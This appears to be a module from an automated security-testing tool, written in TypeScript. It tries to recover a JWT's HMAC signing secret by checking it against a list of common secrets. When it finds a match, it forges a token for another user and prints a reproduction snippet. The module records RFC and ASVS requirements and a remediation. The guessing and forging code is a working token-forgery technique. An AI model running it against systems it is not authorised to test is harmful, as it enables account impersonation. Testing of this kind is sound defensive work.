import { createHmac } from 'node:crypto'
import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { commonSecrets, commonSecretsSource } from '../../kit/common-secrets.ts'
import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
import { tryVariants } from '../../kit/token-attack.ts'

export default defineAttack({
  id: 'token/key-weak-dictionary',
  rows: ['token.key-weak.dictionary'],
  title: 'The signing secret is looked for, offline, in a list of common secrets; a hit signs a token for another user',
  requirement: 'RFC 8725 section 3.5: keys have enough entropy; ASVS V11.2.3: at least 128 bits of security',
  impact: 'Whoever holds one token finds the secret without asking the server, and signs tokens for any user.',
  remedy: 'Make the secret with crypto.randomBytes(32), keep it in the environment, and rotate it now.',
  severity: 'critical',
  cwe: ['CWE-521', 'CWE-1391'],
  references: ['RFC 8725 section 3.5', 'ASVS V11.2.3', 'WSTG-SESS-10'],
  effect: 'write',
  holds: 'nothing',
  provenBy: 'secret-secret',
  needs: ['jwt'],
  async run(context) {
    const { header, payload } = readToken(context.victim.token)
    const alg = String(header.alg)
    const candidates = commonSecrets(context.target.profile.name)
    const witness = await openWitness(context)
    const before = await control(context, 'the real token', witness)
    if (!/^HS(256|384|512)$/.test(alg)) {
      const seen = context.note('measured', `the token is signed with ${alg}: there is no shared secret to guess`)
      return resisted(before.observation, [seen])
    }
    const found = candidates.find((secret) => signs(context.attacker.token, alg, secret))
    if (found === undefined) {
      const seen = context.note('measured', `the secret is none of ${candidates.length} common ones`)
      return resisted(before.observation, [seen])
    }
    context.note('measured', `the secret is in the list of common ones: ${found.length} characters long`)
    if (context.rubbishAccepted) return inconclusive('superseded by auth/absent-no-token', context.evidence)
    const token = assembleWithHmac(header, payload, found, `sha${alg.slice(2)}`)
    return tryVariants(context, witness, [
      {
        name: 'a token signed with the secret found',
        token,
        makes: () => `const secrets = ${commonSecretsSource(context.target.profile.name)}
const [head, body, signature] = TOKEN_A.split('.')
const secret = secrets.find((one) => hmac('sha${alg.slice(2)}', one)(\`\${head}.\${body}\`) === signature)
expect(secret, 'the secret is none of these')
const forged = join(part(header(TOKEN_B)), part(claims(TOKEN_B)), hmac('sha${alg.slice(2)}', secret))`,
      },
    ])
  },
})

/** RFC 7515 section 5.2: the signature is over the first two segments as they stand. */
function signs(token: string, alg: string, secret: string): boolean {
  const end = token.lastIndexOf('.')
  const made = createHmac(`sha${alg.slice(2)}`, secret)
    .update(token.slice(0, end))
    .digest('base64url')
  return made === token.slice(end + 1)
}
